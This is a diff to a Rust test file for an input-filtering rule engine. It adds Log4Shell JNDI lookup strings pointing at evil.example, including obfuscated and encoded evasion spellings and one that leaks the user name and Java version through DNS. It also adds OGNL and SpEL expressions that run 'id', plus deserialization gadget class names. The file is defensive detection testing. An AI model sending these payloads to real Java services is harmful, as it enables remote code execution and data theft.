@@ -23,6 +23,11 @@ fn log4shell_is_found_through_its_spellings() {
         "${ jndi:ldap://evil.example/a}",
         "${jndi:ldap://${env:USER}.${sys:java.version}.evil.example/a}",
         "${:1337:-x$}{jndi:ldap://evil.example/a}",
+        // Log4j takes the default of any name it cannot resolve.
+        "${${x:-j}ndi:ldap://evil.example/a}",
+        "${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://e/a}",
+        // Java's case mapping: `ı` upper-cases to `I`.
+        "${${::-j}${::-n}${::-d}${upper:%C4%B1}:ldap://evil.example/a}",
         "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
         "&#36;{jndi:ldap://evil.example/a}",
         // Cut before it closes.
@@ -71,6 +76,13 @@ fn deep_nesting_is_bounded_and_linear() {
     let _ = rules(&deep);
     let closers = "}".repeat(50_000) + &"${".repeat(50_000);
     assert!(!rules(&closers).contains(&RULE_JNDI));
+    // Past the cap the value is flagged for its nesting alone.
+    let deeper = "${::-".repeat(MAX_DEPTH) + "${jndi:ldap://e.example/a}" + &"}".repeat(MAX_DEPTH);
+    assert!(
+        rules(&deeper).contains(&RULE_NESTING),
+        "{:?}",
+        rules(&deeper)
+    );
     // Within the cap the nesting resolves.
     let nested = "${::-".repeat(MAX_DEPTH - 1) + "j" + &"}".repeat(MAX_DEPTH - 1);
     assert!(rules(&format!("${{{nested}ndi:ldap://x/a}}")).contains(&RULE_JNDI));
@@ -107,9 +119,10 @@ fn code_execution_shapes_block_and_class_names_only_detect() {
         "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
         "#context['xwork.MethodAccessor.denyMethodExecution']=false",
         "T(java.lang.Runtime).getRuntime().exec('id')",
-        "new java.lang.ProcessBuilder({'id'}).start()",
+        "#{new java.lang.ProcessBuilder({'id'}).start()}",
+        "${Class.forName('java.lang.Runtime')}",
         "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
-        "Class.forName('javax.script.ScriptEngineManager')",
+        "''.getClass().forName('javax.script.ScriptEngineManager')",
         "org.apache.commons.collections.functors.InvokerTransformer",
         "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
         "com.sun.rowset.JdbcRowSetImpl",
@@ -122,6 +135,9 @@ fn code_execution_shapes_block_and_class_names_only_detect() {
         "java.lang.Runtime",
         "uses java.lang.System",
         "com.opensymphony.xwork2.ActionContext",
+        // Java code people write about: detected, not blocked.
+        "new ProcessBuilder(cmd).start()",
+        "Class.forName(\"com.mysql.cj.jdbc.Driver\")",
     ] {
         assert_eq!(rules(a), [RULE_CLASS], "{a}");
     }
@@ -131,6 +147,7 @@ fn code_execution_shapes_block_and_class_names_only_detect() {
         "templatesimplified",
         "the class loader failed",
         "getruntime",
+        "Runtime.getRuntime().availableProcessors()",
     ] {
         assert!(rules(b).is_empty(), "{b}: {:?}", rules(b));
     }
